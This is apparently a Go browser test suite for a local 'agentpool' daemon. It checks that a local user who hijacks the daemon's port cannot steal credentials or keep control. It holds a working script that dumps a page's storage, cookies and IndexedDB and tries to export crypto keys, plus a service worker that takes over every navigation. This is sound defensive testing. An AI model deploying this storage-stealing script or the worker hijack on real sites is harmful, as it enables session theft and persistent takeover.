package main

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/agentpool/agentpool/httpapi"
	"github.com/agentpool/agentpool/httpapi/apitest"
)

// impostor is what another local user may run on the daemon's port while
// the daemon is stopped: it records every request (headers and body),
// answers the page's challenge with a made-up proof, and serves the
// origin a script that collects the origin's storage and posts it back.
type pageImpostor struct {
	srv  *http.Server
	done chan struct{}

	mu   sync.Mutex
	reqs []impostorRequest
}

// impostorRequest is one request the impostor got.
type impostorRequest struct {
	Method, Path string
	Header       http.Header
	Body         string
}

// impostorScript collects localStorage, sessionStorage, document.cookie
// and every record of every IndexedDB database it can enumerate; a
// CryptoKey is described, and exporting it tried.
const impostorScript = `(async () => {
  const out = {localStorage: Object.assign({}, localStorage), sessionStorage: Object.assign({}, sessionStorage), cookie: document.cookie, idb: []};
  const req = r => new Promise((res, rej) => { r.onsuccess = () => res(r.result); r.onerror = () => rej(r.error); });
  const describe = async v => {
    if (v instanceof CryptoKey) {
      const d = {cryptoKey: true, type: v.type, extractable: v.extractable, algorithm: v.algorithm.name, usages: v.usages};
      for (const f of ['raw', 'jwk']) {
        try { const k = await crypto.subtle.exportKey(f, v); d['export_' + f] = f === 'raw' ? [...new Uint8Array(k)].map(x => x.toString(16).padStart(2, '0')).join('') : k; }
        catch (e) { d['export_' + f] = 'failed: ' + e.name; }
      }
      return d;
    }
    if (v && typeof v === 'object') {
      const o = Array.isArray(v) ? [] : {};
      for (const k of Object.keys(v)) o[k] = await describe(v[k]);
      return o;
    }
    return v;
  };
  try {
    for (const info of await indexedDB.databases()) {
      const db = await req(indexedDB.open(info.name));
      for (const name of db.objectStoreNames) {
        const s = db.transaction(name).objectStore(name);
        const [keys, vals] = await Promise.all([req(s.getAllKeys()), req(s.getAll())]);
        for (let i = 0; i < keys.length; i++) out.idb.push({db: info.name, store: name, key: keys[i], value: await describe(vals[i])});
      }
      db.close();
    }
  } catch (e) { out.error = String(e); }
  await fetch('/collect', {method: 'POST', body: JSON.stringify(out)});
  window.__collected = out;
})();`

// impostorPage is the page the impostor serves at / (and at any .html).
const impostorPage = `<!doctype html><meta charset="utf-8"><title>agentpool</title><p>nothing to see</p><script>` + impostorScript + `</script>`

// startPageImpostor serves on addr, retrying for a few seconds while the
// daemon's socket is released.
func startPageImpostor(t *testing.T, addr string) *pageImpostor {
	t.Helper()
	var ln net.Listener
	var err error
	for deadline := time.Now().Add(10 * time.Second); ; {
		if ln, err = net.Listen("tcp", addr); err == nil || time.Now().After(deadline) {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	if err != nil {
		t.Fatalf("impostor: listen on %s: %v", addr, err)
	}
	im := &pageImpostor{done: make(chan struct{})}
	im.srv = &http.Server{Handler: http.HandlerFunc(im.serve), ReadHeaderTimeout: 5 * time.Second}
	go func() {
		defer close(im.done)
		_ = im.srv.Serve(ln)
	}()
	t.Cleanup(im.stop)
	return im
}

// stop closes the impostor's listener and connections, and waits.
func (im *pageImpostor) stop() {
	_ = im.srv.Close()
	<-im.done
}

func (im *pageImpostor) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	im.mu.Lock()
	im.reqs = append(im.reqs, impostorRequest{Method: r.Method, Path: r.URL.Path, Header: r.Header.Clone(), Body: string(body)})
	im.mu.Unlock()
	switch {
	case r.URL.Path == "/v1/page-auth/challenge":
		// A made-up proof, to lure the page into answering.
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"proof":%q,"challenge":%q}`, randomHex(32), randomHex(32))
	case strings.HasSuffix(r.URL.Path, ".js"):
		w.Header().Set("Content-Type", "text/javascript")
		io.WriteString(w, impostorScript)
	case r.Method == http.MethodGet && (r.URL.Path == "/" || r.URL.Path == "/login" || strings.HasSuffix(r.URL.Path, ".html")):
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, impostorPage)
	case r.URL.Path == "/collect":
		w.WriteHeader(http.StatusNoContent)
	default:
		http.Error(w, `{"error":{"code":"not_found","message":"no"}}`, http.StatusNotFound)
	}
}

// requests returns what the impostor got so far.
func (im *pageImpostor) requests() []impostorRequest {
	im.mu.Lock()
	defer im.mu.Unlock()
	return append([]impostorRequest(nil), im.reqs...)
}

func randomHex(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

// tokenLike matches what looks like an agentpool credential or bearer.
var tokenLike = regexp.MustCompile(`ap[a-z]_[A-Za-z0-9_-]+`)

// jsonStrings appends every string (keys too) in a JSON document.
func jsonStrings(v any, out []string) []string {
	switch v := v.(type) {
	case string:
		out = append(out, v)
	case []any:
		for _, e := range v {
			out = jsonStrings(e, out)
		}
	case map[string]any:
		for k, e := range v {
			out = jsonStrings(e, append(out, k))
		}
	}
	return out
}

// collected is every string the impostor could try: each header value,
// each token-looking substring, each JSON string of a body, each body.
func collected(reqs []impostorRequest) []string {
	seen := map[string]bool{}
	var out []string
	add := func(s string) {
		s = strings.TrimSpace(s)
		if s != "" && !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	for _, r := range reqs {
		var all strings.Builder
		for _, vs := range r.Header {
			for _, v := range vs {
				add(v)
				if _, tok, ok := strings.Cut(v, " "); ok {
					add(tok)
				}
				all.WriteString(v + "\n")
			}
		}
		all.WriteString(r.Body)
		add(r.Body)
		for _, m := range tokenLike.FindAllString(all.String(), -1) {
			add(m)
		}
		var doc any
		if json.Unmarshal([]byte(r.Body), &doc) == nil {
			for _, s := range jsonStrings(doc, nil) {
				add(s)
			}
		}
	}
	return out
}

// pageAuthWithKey runs the page's challenge protocol against base with
// key as the MAC key itself; nil if it got a run bearer.
func pageAuthWithKey(base, id string, key []byte) error {
	mac := func(msg string) string {
		m := hmac.New(sha256.New, key)
		m.Write([]byte(msg))
		return hex.EncodeToString(m.Sum(nil))
	}
	post := func(path string, body any) (map[string]string, error) {
		b, _ := json.Marshal(body)
		resp, err := http.Post(base+path, "application/json", bytes.NewReader(b))
		if err != nil {
			return nil, err
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			return nil, fmt.Errorf("%s: HTTP %d", path, resp.StatusCode)
		}
		var out map[string]string
		err = json.NewDecoder(resp.Body).Decode(&out)
		return out, err
	}
	ch, err := post("/v1/page-auth/challenge", map[string]string{"id": id, "nonce": randomHex(32)})
	if err != nil {
		return err
	}
	auth, err := post("/v1/page-auth", map[string]string{"id": id, "challenge": ch["challenge"], "mac": mac("agentpool page auth v1\x00" + ch["challenge"] + "\x00" + id)})
	if err != nil {
		return err
	}
	if auth["bearer"] == "" {
		return errors.New("no bearer")
	}
	return nil
}

// TestBrowserImpostorCollectsNothing is issue 43's attack: while the
// daemon is stopped another local user binds its port, records all the
// page sends, and, when the tab is reloaded, serves the origin a script
// that collects its storage. The page never sends a bearer to what cannot
// prove it is the daemon, says so in a banner, and nothing collected
// works against the restarted daemon; the page is still logged in to it.
func TestBrowserImpostorCollectsNothing(t *testing.T) {
	exe := findBrowser(t)
	bin := agentpoolBinary(t)
	home := t.TempDir()
	d := startDaemon(t, bin, home)
	stop := func(d *daemon) {
		_ = d.cmd.Process.Signal(syscall.SIGTERM)
		_ = d.cmd.Wait()
	}
	t.Cleanup(func() {
		stop(d)
		if t.Failed() {
			t.Logf("daemon output:\n%s", d.out)
		}
	})
	b := newBrowser(t, exe)
	browserLogin(t, b, d)
	assertPageLoggedIn(t, b, d)
	b.waitJS("the page live", `document.getElementById('conn').classList.contains('live')`)
	pages, err := d.client.PageSessions(context.Background())
	if err != nil || len(pages) != 1 {
		t.Fatalf("PageSessions() = %+v, %v; want this page", pages, err)
	}
	pageID := pages[0].ID

	// The daemon stops: the page says nothing proves the daemon is there.
	addr := strings.TrimPrefix(d.client.BaseURL, "http://")
	stop(d)
	b.waitJS("the banner: not reachable", `document.getElementById('auth-banner').dataset.state === 'unreachable' && !document.getElementById('auth-banner').hidden`)
	b.shot("impostor-daemon-stopped")

	// Mallory binds the port. The page keeps asking for a challenge, and
	// refuses her made-up proof.
	im := startPageImpostor(t, addr)
	b.waitJS("the banner: a failed proof", `document.getElementById('auth-banner').dataset.state === 'proof' && !document.getElementById('auth-banner').hidden`)
	time.Sleep(10 * time.Second)
	t.Logf("screenshot: %s", b.shot("impostor-banner"))
	if txt := evalJS[string](b, `document.getElementById('auth-banner').textContent`); !strings.Contains(txt, "could not prove it is the agentpool daemon") {
		t.Errorf("banner = %q; want it to say what answered could not prove it is the daemon", txt)
	}
	sent := im.requests()
	challenges := 0
	for _, r := range sent {
		if r.Path == "/v1/page-auth/challenge" {
			challenges++
		}
		if r.Path == "/v1/page-auth" || r.Header.Get("Authorization") != "" ||
			tokenLike.MatchString(r.Body) || tokenLike.MatchString(fmt.Sprint(r.Header)) {
			t.Errorf("the page sent the impostor %s %s %v %q", r.Method, r.Path, r.Header, r.Body)
		}
	}
	if challenges < 2 {
		t.Errorf("the page asked the impostor for %d challenges in 10 s; want it to retry", challenges)
	}
	t.Logf("the page sent the impostor %d requests, %d of them challenges", len(sent), challenges)

	// The user reloads the tab: the impostor's script runs on the origin.
	b.run("reload onto the impostor", chromedp.Navigate(d.client.BaseURL+"/"))
	b.waitJS("the impostor's script to collect", `window.__collected`)
	report := evalJS[string](b, `JSON.stringify(window.__collected)`)
	t.Logf("the impostor collected: %s", report)
	if !strings.Contains(report, `"cryptoKey":true`) || strings.Contains(report, `"export_raw":"`) && !strings.Contains(report, `"export_raw":"failed`) ||
		strings.Contains(report, `"extractable":true`) || strings.Contains(report, httpapi.PageCredentialPrefix) || strings.Contains(report, httpapi.RunBearerPrefix) {
		t.Errorf("the impostor's script collected %s; want the page's key found but not exported, and no credential", report)
	}
	im.stop()

	// The daemon is back, on the same port and data: nothing collected
	// works against it, as a bearer or as the page's key.
	d = startDaemon(t, bin, home, "AGENTPOOL_LISTEN="+addr)
	cands := collected(im.requests())
	for _, c := range cands {
		if st := statusWith(t, d.client.BaseURL+"/v1/sessions", c); st != http.StatusUnauthorized {
			t.Errorf("the collected %q as a bearer = %d; want 401", c, st)
		}
		if _, err := apitest.PageBearer(context.Background(), nil, d.client.BaseURL, pageID, c); err == nil {
			t.Errorf("the collected %q as the page's credential authenticated", c)
		}
		keys := [][]byte{[]byte(c)}
		if k, err := hex.DecodeString(c); err == nil {
			keys = append(keys, k)
		}
		for _, k := range keys {
			if err := pageAuthWithKey(d.client.BaseURL, pageID, k); err == nil {
				t.Errorf("the collected %q as the page's key authenticated", c)
			}
		}
	}
	t.Logf("tried %d collected strings against the restarted daemon", len(cands))

	// The real page, opened again, is still logged in: no new link.
	b.run("back to the daemon's page", chromedp.Navigate(d.client.BaseURL+"/"))
	b.waitJS("the sessions page, logged in and live", `document.querySelector('h1') && document.querySelector('h1').textContent === 'Sessions' &&
		!document.getElementById('logout').hidden && document.getElementById('conn').classList.contains('live') && document.getElementById('auth-banner').hidden`)
	if _, err := d.client.CreateSession(context.Background(), createReq(e2eRepoAt(t, t.TempDir(), map[string]string{"README.md": "# back\n"}), "demo")); err != nil {
		t.Fatal(err)
	}
	b.waitJS("the new session listed", `document.querySelectorAll('tr[data-session]').length === 1`)
	b.shot("impostor-after-restart")
}

// swImpostorPage registers the impostor's service worker and marks the
// page as hers.
const swImpostorPage = `<!doctype html><meta charset="utf-8"><title>impostor</title><p id="impostor">hers</p>
<script>navigator.serviceWorker.register('/sw.js', {scope: '/'}).then(() => navigator.serviceWorker.ready).then(() => { window.__swReady = true; });</script>`

// swImpostorWorker answers every navigation with her page, so that it
// keeps running after the daemon is back.
const swImpostorWorker = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', e => {
  if (e.request.mode === 'navigate') e.respondWith(new Response(` + "`" + `<!doctype html><meta charset="utf-8"><title>impostor</title><p id="impostor">hers, from her worker</p>` + "`" + `, {headers: {'Content-Type': 'text/html'}}));
});`

// While the daemon is down, another local user serves its origin a page
// that registers a service worker answering every navigation, and caches
// her page for a year: without more, her code would run as the page once
// the daemon is back. The daemon answers the browser's update check of
// that worker with one that removes itself, and has the browser drop the
// origin's cache: soon after the first navigation, the daemon's own page
// is back, logged in.
func TestBrowserImpostorWorkerRemoved(t *testing.T) {
	exe := findBrowser(t)
	bin := agentpoolBinary(t)
	home := t.TempDir()
	d := startDaemon(t, bin, home)
	stop := func(d *daemon) {
		_ = d.cmd.Process.Signal(syscall.SIGTERM)
		_ = d.cmd.Wait()
	}
	t.Cleanup(func() { stop(d) })
	b := newBrowser(t, exe)
	browserLogin(t, b, d)
	assertPageLoggedIn(t, b, d)
	addr := strings.TrimPrefix(d.client.BaseURL, "http://")
	stop(d)

	ln, err := listenRetry(addr)
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var workerFetches int
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/sw.js":
			mu.Lock()
			workerFetches++
			mu.Unlock()
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Cache-Control", "max-age=31536000, immutable")
			io.WriteString(w, swImpostorWorker)
		default:
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			w.Header().Set("Cache-Control", "max-age=31536000, immutable")
			io.WriteString(w, swImpostorPage)
		}
	})}
	done := make(chan struct{})
	go func() { defer close(done); _ = srv.Serve(ln) }()
	b.run("open the impostor's page", chromedp.Navigate(d.client.BaseURL+"/"))
	b.waitJS("her worker registered", `window.__swReady === true`)
	b.run("again, under her worker", chromedp.Navigate(d.client.BaseURL+"/"))
	b.waitJS("her worker answers", `document.title === 'impostor' && navigator.serviceWorker.controller !== null`)
	_ = srv.Close()
	<-done

	d = startDaemon(t, bin, home, "AGENTPOOL_LISTEN="+addr)
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("daemon output:\n%s", d.out)
		}
	})
	// The user opens the page: her worker answers this navigation, and the
	// browser checks it for an update at the daemon, which removes it.
	deadline := time.Now().Add(90 * time.Second)
	for {
		b.run("open the page", chromedp.Navigate(d.client.BaseURL+"/"))
		time.Sleep(3 * time.Second)
		if evalJS[bool](b, `document.title === 'agentpool' && !!document.getElementById('main')`) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the impostor's page is still served 30 s after the daemon came back: title %q", evalJS[string](b, `document.title`))
		}
	}
	b.waitJS("the sessions page, logged in and live", `document.querySelector('h1') && document.querySelector('h1').textContent === 'Sessions' &&
		document.getElementById('conn').classList.contains('live')`)
	b.waitJS("no service worker left", `navigator.serviceWorker.getRegistrations().then(rs => rs.length === 0)`)
	b.shot("impostor-worker-removed")
}

// listenRetry listens on addr, retrying for a few seconds while a stopped
// daemon's socket is released.
func listenRetry(addr string) (net.Listener, error) {
	deadline := time.Now().Add(10 * time.Second)
	for {
		ln, err := net.Listen("tcp", addr)
		if err == nil || time.Now().After(deadline) {
			return ln, err
		}
		time.Sleep(50 * time.Millisecond)
	}
}
